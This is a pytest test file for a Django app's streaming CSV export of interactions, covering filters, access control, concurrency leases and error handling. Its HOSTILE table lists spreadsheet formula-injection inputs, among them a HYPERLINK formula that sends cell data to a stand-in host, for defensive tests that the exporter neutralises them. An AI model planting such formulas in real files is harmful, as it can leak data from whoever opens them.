"""Exports of interactions as CSV: the same rows as the list, harmless cells, one at a time, and no incomplete files."""

import csv
import io
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from itertools import count
from threading import Barrier, Event

import pytest
from django.contrib.sessions.middleware import SessionMiddleware
from django.db import OperationalError, connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from accounts.models import Profile, User
from interactions import exports, read_limits
from interactions.csv_cells import csv_lines
from interactions.exports import ExportInterrupted
from interactions.models import Content, ExportLease, Interaction, Thread
from interactions.threads.decisions import decide
from interactions.threads.hiding import set_hidden
from tests.commands import run
from tests.csv_exports import INTERACTIONS, assert_busy, cell, leave, listed, read, rest, start
from tests.world import NOW, demo_of, event, send

LIST = "/api/v1/interactions/"


def exported(client: Client, query: str = "") -> list[dict[str, str]]:
    return read(rest(start(client, query)))


def flat(row: dict) -> dict[str, str]:
    """The row of the API as its cells."""
    author = {f"author_{name}": value for name, value in row["author"].items()}
    request = row["moderation"] or {}
    moderation = {f"moderation_{name}": request.get(name) for name in ("action", "status", "until")}
    nested = ("author", "moderation")
    return {name: cell(value) for name, value in (row | author | moderation).items() if name not in nested}


def fill(profile: Profile, number: int, **fields) -> None:
    send(profile, *(event("comment.created", f"c{n:03}", **fields) for n in range(number)))


@pytest.fixture
def pages(live, monkeypatch) -> None:
    """Alice has 25 comments, of which an export reads ten at a time; two rows are older."""
    monkeypatch.setattr(exports, "PAGE_SIZE", 10)
    fill(live, 25)


def test_the_file_has_the_lists_rows_with_all_fields_flat(page, alice, live):
    demo_of(alice, size="small")
    send(live, event("comment.created", "reply", "2026-03-01T12:00:00.25Z", parent_id="comment"))
    send(live, event("comment.created", "gone"), event("comment.created", "left", parent_id="gone"))
    send(live, event("comment.deleted", "gone", NOW.isoformat()))
    decide(Thread.objects.filter(kind="message", is_demo=True).values_list("pk", flat=True), "archived", NOW)
    set_hidden([Interaction.objects.filter(type="comment", is_demo=True).first().pk], True, NOW)
    Interaction.objects.filter(type="comment", is_demo=True).update(sentiment="positive")
    post = Content.objects.filter(is_demo=True).first()
    Content.objects.filter(pk=post.pk).update(deleted_at=NOW)
    comment = Interaction.objects.get(platform_id="comment")
    page.post(f"{LIST}{comment.pk}/reply/", {"text": "Thank you!"}, content_type="application/json")
    page.post(f"{LIST}{comment.pk}/hide/")
    rows = listed(page, LIST)
    assert len(rows) > 200
    assert exported(page) == [flat(row) for row in rows]


def test_columns_are_the_apis_fields_in_their_order(page, live):
    names = list(exported(page)[0])
    assert names == [
        *("id", "profile", "platform", "content", "parent", "platform_id", "type", "direction"),
        *("author_id", "author_handle", "author_name", "conversation_id", "text", "status"),
        *("sentiment", "send_status", "send_error", "posted_at", "received_at", "is_demo", "deleted_at"),
        *("thread", "hidden_at", "attachments", "moderation_action", "moderation_status", "moderation_until"),
    ]


def test_the_answer_is_an_attachment_and_says_its_type(page, live):
    for path in (INTERACTIONS, f"{INTERACTIONS}/", reverse("interactions-export")):
        answer = page.get(path)
        assert answer["Content-Type"] == "text/csv; charset=utf-8"
        assert answer["Content-Disposition"] == 'attachment; filename="interactions.csv"'
        assert len(read(rest(answer))) == 2


def test_without_rows_the_file_has_the_names_of_the_columns_only(page):
    file = rest(start(page))
    assert (file[:11], file.count(b"\r\n"), file[-2:]) == (b"id,profile,", 1, b"\r\n")


def test_the_rows_of_all_pages_are_there_once_while_others_arrive(page, live, pages):
    before = [row["id"] for row in listed(page, LIST)]
    answer = start(page)
    parts = iter(answer.streaming_content)
    file = next(parts)
    send(live, event("comment.created", "newer", NOW.isoformat()), event("message.created", "newest"))
    file += next(parts)
    file += b"".join(parts)
    assert len(before) == 27
    assert [int(row["id"]) for row in read(file)] == before


def test_long_texts_end_a_page_and_are_all_in_the_file(page, live):
    fill(live, 70, text="é" * 32_768)  # more than 4 MiB
    parts = list(start(page).streaming_content)
    assert len(parts) == 3
    assert [row["text"] for row in read(b"".join(parts))[:70]] == ["é" * 32_768] * 70


FILTERS = [
    *("type=message", "platform=youtube", "status=archived", "direction=in", "is_demo=false"),
    *("sentiment=positive", "search=THE", "posted_after=2026-03-01", "posted_before=2026-03-01"),
    *("platform=youtube&type=comment&is_demo=true&search=a", "format=csv"),
]


def test_every_filter_selects_the_same_rows_as_in_the_list(page, alice, live):
    demo_of(alice, platforms=["instagram", "youtube"])
    some = list(Interaction.objects.filter(is_demo=True)[:5])
    Interaction.objects.filter(pk__in=[row.pk for row in some]).update(sentiment="positive")
    decide({row.thread_id for row in some}, "archived", NOW)
    for query in FILTERS:
        rows = listed(page, LIST, query.replace("format=csv", ""))
        assert rows, query
        assert exported(page, f"?{query}") == [flat(row) for row in rows], query


def test_ids_as_filters_select_the_same_rows_as_in_the_list(page, alice, live):
    demo_of(alice)
    post = Content.objects.filter(is_demo=True).first()
    for query in (f"profile={live.pk}", f"content={post.pk}", "profile=0"):
        assert exported(page, f"?{query}") == [flat(row) for row in listed(page, LIST, query)]


def test_deleted_rows_and_rows_of_others_are_not_exported(page, bob, live):
    others = Profile.objects.create(owner=bob, platform="x", platform_id="b", handle="bob")
    send(others, event("comment.created", "theirs"))
    send(live, event("comment.deleted", "comment"))
    assert [row["platform_id"] for row in exported(page)] == ["message"]
    for query in (f"?profile={others.pk}", "?platform=x"):
        assert exported(page, query) == []
    page.force_login(bob)
    assert [row["platform_id"] for row in exported(page)] == ["theirs"]
    assert exported(page, f"?profile={live.pk}") == []


@pytest.mark.parametrize(
    ("query", "named"),
    [
        *(("status=burnt", "status"), ("posted_after=soon", "posted_after"), ("stauts=new", "stauts")),
        *(("page_size=10", "page_size"), ("cursor=x", "cursor"), ("search=", "search")),
        *(("type=comment&type=message", "type"), ("profile=x", "profile"), (f"search={'x' * 101}", "search")),
        ("posted_after=2026-03-02&posted_before=2026-03-01", "posted_after"),
    ],
)
def test_a_wrong_parameter_is_400_and_named(page, live, query, named):
    answer = start(page, f"?{query}")
    assert (answer.status_code, answer["Content-Type"]) == (400, "application/problem+json")
    assert list(answer.json()["errors"]) == [named]
    assert not ExportLease.objects.exists()


def test_an_unknown_parameter_is_answered_with_the_lists_filters(page, live):
    [sentence] = start(page, "?stauts=new").json()["errors"]["stauts"]
    names = page.get(f"{LIST}?stauts=new").json()["errors"]["stauts"][0]
    assert sentence == names.replace(", cursor, page_size", "")
    assert sentence.endswith("posted_after, posted_before, search, author.")


HOSTILE = {  # what a person writes, and the cell
    "=1+1": "'=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"ok")': '\'=HYPERLINK("http://x.example/?"&A1,"ok")',
    "+1": "'+1",
    "-1": "'-1",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1": "'\t=1",
    "\tplain": "'\tplain",
    "\r=1": "'\r=1",
    "\nplain": "'\nplain",
    "  =1": "'  =1",
    "\u00a0=1": "'\u00a0=1",
    "\ufeff=1": "'\ufeff=1",
    "\u200b-1": "'\u200b-1",
    "\u3000＝1": "'\u3000＝1",
    "＠a": "'＠a",
    "a=1": "a=1",
    " a -1": " a -1",
    "'=1": "'=1",
    'a "quoted", text;\r\nof two\nlines': 'a "quoted", text;\r\nof two\nlines',
    '"': '"',
    ",": ",",
    "ελλάδα 🌿 سلام": "ελλάδα 🌿 سلام",
}


def test_a_cell_that_a_spreadsheet_would_evaluate_begins_with_an_apostrophe(page, live):
    for number, text in enumerate(HOSTILE):
        author = {"id": text, "handle": text, "name": text}
        sent = event("message.created", f"hostile{number}", text=text, author=author, conversation_id=text)
        assert send(live, sent)[0].status == "created", text
    rows = {row["platform_id"]: row for row in exported(page)}
    columns = ("text", "author_id", "author_handle", "author_name", "conversation_id")
    for number, text in enumerate(HOSTILE):
        row = rows[f"hostile{number}"]
        stored = Interaction.objects.get(platform_id=f"hostile{number}")
        assert {name: row[name] for name in columns} == {
            name: HOSTILE.get(getattr(stored, name), getattr(stored, name)) for name in columns
        }, text
        assert row["text"] == HOSTILE[text]


BLANKS, SIGNS = " \t\r\n\u00a0\ufeff", ("=", "+", "-", "@", "＝")
CELLS = st.one_of(
    st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=20),
    st.text(st.sampled_from("=+-@\t\r\n ,;\"'a＝\u00a0\ufeff"), max_size=8),
    st.none(),
    st.booleans(),
    st.integers(),
)


@given(st.lists(st.lists(CELLS, min_size=2, max_size=2), max_size=4))
def test_any_cells_are_read_back_as_they_are_but_for_apostrophes_in_front(lines):
    found = list(csv.reader(io.StringIO(csv_lines(lines).decode(), newline=""), strict=True))
    assert len(found) == len(lines)
    for values, cells in zip(lines, found, strict=True):
        for value, shown in zip(values, cells, strict=True):
            assert shown in (cell(value), value, f"'{value}")
            assert not isinstance(value, str) or not shown.strip(BLANKS).startswith(SIGNS)
            assert not isinstance(value, str) or not shown.startswith(("\t", "\r", "\n"))


@pytest.mark.parametrize(
    ("time", "cell"),
    [
        (datetime(2026, 3, 4, 7, 30, tzinfo=UTC), "2026-03-04T07:30:00Z"),
        (datetime(2026, 3, 4, 7, 30, 0, 5, tzinfo=UTC), "2026-03-04T07:30:00.000005Z"),
        (datetime.max.replace(tzinfo=UTC), "9999-12-31T23:59:59.999999Z"),
    ],
)
def test_times_are_written_in_utc(time, cell):
    assert csv_lines([[time]]) == f"{cell}\r\n".encode()


def test_head_answers_the_headers_alone_and_starts_no_export(page, live):
    answer = page.head(INTERACTIONS)
    assert (answer.status_code, b"".join(answer)) == (200, b"")
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert "Content-Length" not in answer.headers
    assert page.head(f"{INTERACTIONS}?status=burnt").status_code == 400
    assert not ExportLease.objects.exists()
    running = start(page)
    assert page.head(INTERACTIONS).status_code == 200
    assert rest(running)


def test_other_methods_and_formats_are_refused_as_on_other_routes(page, live):
    assert page.options(INTERACTIONS).json()["name"] == "Interaction Export"
    for method in ("post", "put", "patch", "delete"):
        assert getattr(page, method)(INTERACTIONS, headers={"Accept": "*/*"}).status_code == 405
    refused = page.get(INTERACTIONS, headers={"Accept": "application/json"})
    assert (refused.status_code, refused.json()["hint"]) == (406, "Send `Accept: text/csv`.")
    assert page.get(f"{INTERACTIONS}?format=json").status_code == 404
    for accepted in ("text/csv", "text/csv; charset=utf-8", "text/*", "text/html,*/*;q=0.8"):
        assert rest(page.get(INTERACTIONS, headers={"Accept": accepted}))


def test_http_1_0_is_refused_as_an_incomplete_file_would_look_complete(page, live):
    answer = start(page, SERVER_PROTOCOL="HTTP/1.0")
    assert (answer.status_code, answer["Content-Type"]) == (505, "application/problem+json")
    assert "HTTP/1.1" in answer.json()["hint"]
    assert not ExportLease.objects.exists()


def test_an_anonymous_client_gets_401(client, live):
    assert start(client).status_code == 401


@pytest.fixture
def many_slots(monkeypatch) -> None:
    monkeypatch.setattr(exports, "MAX_EXPORTS", 20)


def test_a_second_export_of_a_user_is_429_until_the_first_has_ended(page, pages):
    first = start(page)
    assert_busy(page)
    next(iter(first.streaming_content))
    assert_busy(page)
    assert page.get(LIST).status_code == 200
    assert b"".join(first.streaming_content)
    assert len(exported(page)) == 27


@pytest.mark.parametrize("parts", [0, 1, 2])
def test_a_disconnected_client_frees_its_export(page, pages, parts):
    first = start(page)
    for _ in range(parts):
        next(iter(first.streaming_content))
    leave(first)
    assert len(exported(page)) == 27


def test_two_users_export_at_the_same_time(page, bob, pages, many_slots):
    first, other = start(page), Client()
    other.force_login(bob)
    assert rest(start(other)).count(b"\r\n") == 1
    assert len(read(rest(first))) == 27


def test_a_process_runs_one_export_and_refuses_others_with_503(page, bob, pages):
    first, other = start(page), Client()
    other.force_login(bob)
    answer = start(other)
    assert (answer.status_code, answer["Retry-After"]) == (503, "5")
    assert answer.json()["detail"] == "Too many exports are running at once."
    assert ExportLease.objects.count() == 1
    assert other.get(LIST).status_code == 200
    assert rest(first)
    assert rest(start(other))


@pytest.fixture
def abandoned(page, pages, many_slots):
    """An export of Alice's whose process has died: its lease is not renewed any more."""
    answer = start(page)
    assert_busy(page)
    ExportLease.objects.update(expires_at=datetime.now(UTC) - timedelta(seconds=1))
    return answer


def test_an_export_whose_process_has_died_frees_its_user(page, abandoned):
    assert len(exported(page)) == 27
    leave(abandoned)


def test_the_lease_of_a_dead_process_ends_within_half_a_minute(page, pages):
    with_lease = start(page)
    left = ExportLease.objects.get().expires_at - datetime.now(UTC)
    assert timedelta(seconds=25) < left <= timedelta(seconds=30)
    leave(with_lease)


def test_an_export_that_was_taken_over_is_interrupted_and_frees_nothing(page, abandoned, monkeypatch):
    monkeypatch.setattr(exports, "RENEWAL_SECONDS", 0)
    second = start(page)
    with pytest.raises(ExportInterrupted, match="lease"):
        rest(abandoned)
    leave(abandoned)
    assert_busy(page)
    assert len(read(rest(second))) == 27


def test_a_running_export_renews_its_lease(page, pages, monkeypatch):
    monkeypatch.setattr(exports, "RENEWAL_SECONDS", 0)
    parts = iter(start(page).streaming_content)
    next(parts)
    ExportLease.objects.update(expires_at=datetime.now(UTC) + timedelta(seconds=1))
    next(parts)
    assert ExportLease.objects.get().expires_at > datetime.now(UTC) + timedelta(seconds=20)
    assert b"".join(parts)


def failing_read(after: int, error: Exception) -> Callable:
    calls, real = count(), exports.read_page

    def read_page(*arguments):
        if next(calls) >= after:
            raise error
        return real(*arguments)

    return read_page


@pytest.mark.parametrize("after", [1, 2])
def test_an_error_after_the_first_page_ends_the_response_abnormally(page, pages, monkeypatch, after):
    with monkeypatch.context() as undone:
        undone.setattr(exports, "read_page", failing_read(after, OperationalError("the connection is lost")))
        answer = start(page)
        with pytest.raises(OperationalError):
            rest(answer)
    leave(answer)
    assert len(exported(page)) == 27


@pytest.mark.parametrize(("error", "code"), [(OperationalError("lost"), 503), (RuntimeError("a bug"), 500)])
def test_an_error_on_the_first_page_is_a_problem_and_frees_the_export(page, pages, monkeypatch, error, code):
    page.raise_request_exception = False
    with monkeypatch.context() as undone:
        undone.setattr(exports, "read_page", failing_read(0, error))
        answer = start(page)
    assert (answer.status_code, answer["Content-Type"]) == (code, "application/problem+json")
    assert len(exported(page)) == 27


def test_an_export_that_takes_too_long_is_interrupted(page, pages, monkeypatch):
    answer = start(page)
    monkeypatch.setattr(exports, "MAX_SECONDS", 0)
    with pytest.raises(ExportInterrupted, match="0 seconds"):
        rest(answer)
    leave(answer)
    monkeypatch.undo()
    assert len(exported(page)) == 27


def test_an_export_waits_for_a_client_that_is_far_behind_and_not_for_ever(page, pages, monkeypatch):
    monkeypatch.setattr(exports, "CLIENT_CHECK_SECONDS", 0.01)
    behind = iter([exports.MAX_UNSENT_BYTES + 1] * 3 + [exports.MAX_UNSENT_BYTES] * 9)
    file = rest(start(page, **{"perennial.unsent_bytes": lambda: next(behind)}))
    assert (len(read(file)), len(list(behind))) == (27, 7)
    monkeypatch.setattr(exports, "MAX_SECONDS", 0.1)
    answer = start(page, **{"perennial.unsent_bytes": lambda: 1 << 40})
    with pytest.raises(ExportInterrupted):
        rest(answer)
    leave(answer)


def test_the_slot_of_an_export_whose_response_is_lost_is_free_once_it_must_be_over(
    page, bob, pages, monkeypatch
):
    def fail(*_) -> None:
        raise RuntimeError("a middleware has a bug")

    page.raise_request_exception = False
    with monkeypatch.context() as undone:
        undone.setattr(SessionMiddleware, "process_response", fail)
        undone.setattr(exports, "MAX_SECONDS", -31)
        assert start(page).status_code == 500
    page.force_login(bob)
    assert rest(start(page))


def queries_of(answer) -> Iterator[list[str]]:
    """The statements of each further part of the file."""
    parts = iter(answer.streaming_content)
    while True:
        with CaptureQueriesContext(connection) as queries:
            part = next(parts, None)
        yield [query["sql"] for query in queries]
        if part is None:
            return


def test_each_page_is_one_query_whatever_is_on_it(page, alice, live, pages, django_assert_num_queries):
    send(live, *(event("comment.created", f"r{n}", parent_id=f"c{n:03}") for n in range(9)))
    with django_assert_num_queries(4):  # session, user, lease, first page
        answer = start(page)
    found = list(queries_of(answer))
    assert [len(queries) for queries in found] == [0, 1, 1, 1, 1]  # the last one releases the lease
    assert "DELETE" in found[-1][0]


@pytest.mark.django_db(transaction=True)
def test_no_transaction_or_cursor_stays_open_between_pages(page, pages):
    parts = iter(start(page).streaming_content)
    while next(parts, None):
        assert not connection.in_atomic_block
        with connection.cursor() as cursor:
            cursor.execute(
                "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() AND state LIKE 'idle in%'"
            )
            assert cursor.fetchone() == (0,)
            cursor.execute("SELECT count(*) FROM pg_cursors WHERE name LIKE '%django%'")
            assert cursor.fetchone() == (0,)


@pytest.mark.django_db(transaction=True)
def test_of_simultaneous_exports_of_a_user_one_runs(alice, live, many_slots):
    together = Barrier(8, timeout=20)

    def one() -> int:
        client = Client()
        client.force_login(alice)
        try:
            together.wait()
            answer = start(client)
            together.wait()  # all have an answer before any ends
            leave(answer)
            return answer.status_code
        finally:
            connection.close()

    with ThreadPoolExecutor(8) as pool:
        codes = [future.result() for future in [pool.submit(one) for _ in range(8)]]
    assert sorted(codes) == [200] + [429] * 7
    assert not ExportLease.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_a_slow_first_page_is_503_as_in_the_list(client, alice, live, monkeypatch):
    client.force_login(alice)
    fill(live, 40, text="a" * 65_536)
    monkeypatch.setattr(read_limits, "QUICK_MILLISECONDS", 1)
    monkeypatch.setattr(read_limits, "MAX_MILLISECONDS", 2)  # 2 MiB of texts take longer
    answer = start(client)
    assert (answer.status_code, answer["Retry-After"]) == (503, "5")
    assert "posted_after" in answer.json()["hint"]
    read_limits.reset_usage()
    assert not ExportLease.objects.exists()


def test_a_long_read_is_followed_by_a_pause_of_twice_its_time(page, pages, monkeypatch):
    pauses: list[float] = []
    monkeypatch.setattr(exports.time, "sleep", pauses.append)
    monkeypatch.setattr(exports, "QUICK_MILLISECONDS", 10_000)
    rest(start(page))
    assert pauses == []
    monkeypatch.setattr(exports, "QUICK_MILLISECONDS", 50)
    monkeypatch.setattr(exports, "read_page", slow_read(0.1))
    rest(start(page))
    assert len(pauses) == 2
    assert 0.2 <= min(pauses) < 1


def slow_read(seconds: float) -> Callable:
    real = exports.read_page

    def read_page(*arguments):
        Event().wait(seconds)
        return real(*arguments)

    return read_page


def test_deleting_a_user_interrupts_their_export(page, alice, pages, monkeypatch):
    monkeypatch.setattr(exports, "RENEWAL_SECONDS", 0)
    answer = start(page)
    run("delete_user", "--user", "alice", "--yes")
    assert not ExportLease.objects.exists()
    with pytest.raises(ExportInterrupted):
        rest(answer)
    leave(answer)


def test_the_admin_shows_which_exports_run(operator, alice):
    ExportLease.objects.acquire(alice.pk)
    path = reverse("admin:interactions_exportlease_changelist")
    assert "alice" in operator.get(path).content.decode()
    assert User.objects.filter(username="alice").exists()
